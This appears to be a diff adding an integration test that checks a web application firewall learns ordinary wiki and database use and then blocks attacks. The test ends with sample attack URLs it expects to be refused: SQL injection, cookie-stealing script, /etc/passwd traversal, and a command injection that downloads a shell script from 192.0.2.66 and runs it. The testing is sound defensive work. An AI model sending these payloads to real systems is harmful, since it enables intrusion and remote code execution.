@@ -1,0 +1,212 @@
+import assert from 'node:assert/strict'
+import { after, before, type TestContext, test } from 'node:test'
+import { type Browser, chromium, type Page } from 'playwright-core'
+import { eventually } from './support/calls.ts'
+import { cleanUp } from './support/clean-up.ts'
+import { adminer, cleanUpPhp, dokuwiki } from './support/php-applications.ts'
+import { Management, ProxyProcess } from './support/proxy.ts'
+import { Server } from './support/server.ts'
+import { visitDatabase } from './support/visits/database-visit.ts'
+import { databaseWork, learntArticles, newArticles } from './support/visits/ordinary-words.ts'
+import { visitWiki } from './support/visits/wiki-visit.ts'
+
+/*
+ * People use a wiki and a database front through the firewall, writing about SQL, shells and markup: first while the service only
+ * logs. The proposed exceptions are accepted, the service blocks, and others do the same sort of work. Attacks are still refused.
+ */
+
+let server: Server
+let management: Management
+let browser: Browser
+before(async () => {
+  server = await Server.start()
+  await ProxyProcess.start(server)
+  management = await Management.connect(server)
+  browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: browserFlags })
+})
+after(async () => {
+  await browser?.close()
+  await cleanUpPhp()
+  await cleanUp()
+})
+
+/** Nothing but what the pages ask for. */
+const browserFlags = [
+  '--no-sandbox',
+  '--disable-gpu',
+  '--disable-quic',
+  '--no-first-run',
+  '--disable-background-networking',
+  '--disable-component-update',
+  '--disable-sync',
+]
+
+/** What visitors had from a service. */
+interface Figures {
+  /** All requests, and those for pages and data alone, without style sheets, scripts and pictures. */
+  requests: number
+  ofPages: number
+  refused: number
+}
+
+type Visit = (page: Page, origin: string) => Promise<void>
+
+/** Lets a visitor of his own address use the application. */
+async function visitAs(address: string, port: number, visit: Visit, figures: Figures): Promise<void> {
+  const context = await browser.newContext({ extraHTTPHeaders: { 'x-forwarded-for': address } })
+  context.setDefaultTimeout(30_000)
+  const page = await context.newPage()
+  page.on('response', (response) => {
+    figures.requests++
+    if (['document', 'xhr', 'fetch'].includes(response.request().resourceType())) figures.ofPages++
+    if (response.status() === 403) figures.refused++
+  })
+  await visit(page, `http://application.localhost:${port}`)
+  await context.close()
+}
+
+const noFigures = (): Figures => ({ requests: 0, ofPages: 0, refused: 0 })
+
+type Entry = Readonly<Record<string, string>>
+
+/** Rules that refuse requests and answers for their score. */
+const verdicts = /^9[45]9\d{3}$/
+
+/** How many requests to a service the rules refused or would have, once the log has grown no more for a while. */
+async function judged(service: string): Promise<number> {
+  let before = -1
+  return eventually(`the log of ${service}`, async () => {
+    await new Promise((resolve) => setTimeout(resolve, 1_500))
+    const { data = {} } = await management.call('GET', 'web-firewall-logs?limit=10000')
+    const entries = Object.values(data as Record<string, Entry>).filter(
+      (entry) => entry['service-name'] === service && verdicts.test(entry.rule ?? ''),
+    )
+    const requests = new Set(entries.map((entry) => entry['request-id'])).size
+    if (requests === before) return requests
+    before = requests
+    return undefined
+  })
+}
+
+interface Proposal {
+  readonly id: string
+  readonly rule: string
+  readonly target: string
+  readonly url: string
+  readonly evidence: string
+  readonly 'speaks-against': readonly string[]
+}
+
+async function proposals(service: string): Promise<Proposal[]> {
+  const { data = {} } = await management.call('GET', `services/${service}/rule-exception-proposals`)
+  return Object.values(data as Record<string, Proposal>)
+}
+
+/** A service in Passive mode behind which the application is, whose policy takes what the application needs. */
+async function protect(name: string, port: number): Promise<number> {
+  const policy = `policy-of-${name}`
+  await management.call('POST', 'security-policies', { name: policy, 'based-on': 'default' })
+  await management.call('PUT', `security-policies/${policy}/parameter-protection`, {
+    'maximum-parameter-value-length': 100_000,
+    'denied-metacharacters': '%00',
+  })
+  await management.call('PUT', `security-policies/${policy}/url-protection`, {
+    'max-content-length': 1_000_000,
+    'max-parameters': 200,
+    'allowed-content-types': [
+      'application/x-www-form-urlencoded',
+      'multipart/form-data',
+      'application/octet-stream',
+    ],
+  })
+  await management.call('PUT', `security-policies/${policy}/request-limits`, { 'max-number-of-headers': 40 })
+  await management.call('PUT', `security-policies/${policy}/cookie-security`, {
+    'cookie-replay-protection-type': 'none',
+  })
+  const front = await management.protect(name, port)
+  await management.call('PUT', `services/${name}/basic-security`, {
+    mode: 'Passive',
+    'web-firewall-policy': policy,
+    'client-ip-addr-header': 'X-Forwarded-For',
+  })
+  await management.call('PUT', `services/${name}/exception-profiling`, {
+    'exception-profiling-level': 'High',
+  })
+  await management.untilFares(`services/${name}`, 'Up')
+  return front
+}
+
+/** Learns from visitors, accepts what is proposed, and counts what becomes of others. */
+async function learnAndBlock(
+  t: TestContext,
+  name: string,
+  port: number,
+  { learnt, fresh }: { readonly learnt: readonly Visit[]; readonly fresh: Visit },
+): Promise<{ readonly figures: Figures; readonly front: number }> {
+  const front = await protect(name, port)
+  const before = noFigures()
+  for (const [index, visit] of learnt.entries()) {
+    await visitAs(`192.0.2.${index + 1}`, front, visit, before)
+  }
+  const would = await judged(name)
+  const proposed = await proposals(name)
+  t.diagnostic(`${name} before: ${told({ ...before, refused: would })}; proposed: ${proposed.length}`)
+  assert.equal(before.refused, 0, 'nothing is refused while it is learnt')
+  assert.ok(proposed.length > 0)
+  for (const { id } of proposed) {
+    await management.call('POST', `services/${name}/rule-exception-proposals/${id}`, {})
+  }
+  await management.call('PUT', `services/${name}/basic-security`, { mode: 'Active' })
+  await management.untilFares(`services/${name}`, 'Up')
+  const figures = noFigures()
+  await visitAs('198.51.100.9', front, fresh, figures)
+  t.diagnostic(`${name} after: ${told(figures)}`)
+  return { figures, front }
+}
+
+function told({ requests, ofPages, refused }: Figures): string {
+  const share = (of: number) => `${((100 * refused) / of).toFixed(2)} %`
+  return `${refused} refused of ${requests} requests (${share(requests)}), ${ofPages} for pages (${share(ofPages)})`
+}
+
+test('a wiki is used without hindrance after others were learnt from, and attacks on it are refused', async (t) => {
+  const { figures, front } = await learnAndBlock(t, 'wiki', await dokuwiki(), {
+    learnt: learntArticles.map((articles) => (page, origin) => visitWiki(page, origin, articles)),
+    fresh: (page, origin) => visitWiki(page, origin, newArticles),
+  })
+  assert.ok(figures.requests > 300)
+  assert.ok(figures.refused < figures.requests / 100)
+  await refused(front, [
+    "/doku.php?id=start&rev=1'%20UNION%20SELECT%20password%20FROM%20users--%20-",
+    '/doku.php?id=<script>alert(document.cookie)</script>',
+    '/lib/exe/fetch.php?media=../../../../etc/passwd',
+    '/doku.php?id=start&do=;cat%20/etc/passwd',
+  ])
+})
+
+test('so is a front of databases, where people type SQL', async (t) => {
+  const { port, database } = await adminer()
+  const visit = (table: string, isNew: boolean): Visit => {
+    const work = { database, ...databaseWork(table, isNew) }
+    return (page, origin) => visitDatabase(page, origin, work)
+  }
+  const { figures, front } = await learnAndBlock(t, 'tables', port, {
+    learnt: ['lamps', 'desks', 'beds'].map((table) => visit(table, false)),
+    fresh: visit('chairs', true),
+  })
+  assert.ok(figures.requests > 50)
+  assert.ok(figures.refused < figures.requests / 100)
+  await refused(front, [
+    '/?sqlite=&file=<script>alert(1)</script>',
+    '/?username=;wget%20http://192.0.2.66/x.sh%20-O-|sh',
+    '/adminer.php?sql=1%20UNION%20SELECT%20password%20FROM%20users',
+  ])
+})
+
+async function refused(port: number, attacks: readonly string[]): Promise<void> {
+  for (const attack of attacks) {
+    const reply = await fetch(`http://127.0.0.1:${port}${attack}`)
+    await reply.arrayBuffer()
+    assert.equal(reply.status, 403, attack)
+  }
+}
